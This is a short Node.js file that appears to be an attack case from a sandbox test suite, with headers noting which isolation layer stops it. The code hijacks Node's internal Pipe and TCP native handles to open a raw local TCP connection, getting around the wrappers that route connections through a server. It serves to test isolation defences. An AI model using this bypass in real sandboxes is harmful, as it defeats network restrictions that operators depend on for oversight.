// stopped from: L3
// without walls: yes
// Undoes what leads connections through the server: takes the native handles from under net.
const net = require('net');

function anyPipe() {
  const open = process._getActiveHandles().find((handle) => handle._handle?.constructor.name === 'Pipe');
  return open?._handle ?? new net.Socket().connect('/nowhere').on('error', () => {})._handle;
}

exports.onExecuteEventStream = async (event) => {
  console.log('the attack runs');
  const { prototype } = anyPipe().constructor;
  const connect = prototype.connect;
  let asked;
  prototype.connect = (request) => {
    asked = request;
    return 0;
  };
  net.connect('/nowhere').on('error', () => {});
  if (asked === undefined) net.connect(9, '127.0.0.1').on('error', () => {});
  prototype.connect = connect;
  const server = net.createServer().listen(0);
  await require('events').once(server, 'listening');
  const Tcp = server._handle.constructor;
  server.close();
  const handle = new Tcp(0);
  await new Promise((resolve) => {
    asked.oncomplete = (status) => {
      console.log(status === 0 ? 'got through: connected' : `connect: ${status}`);
      resolve();
    };
    const now = handle.connect(asked, '127.0.0.1', event.message.data.port);
    if (now !== 0) resolve(console.log(`connect: ${now}`));
  });
};
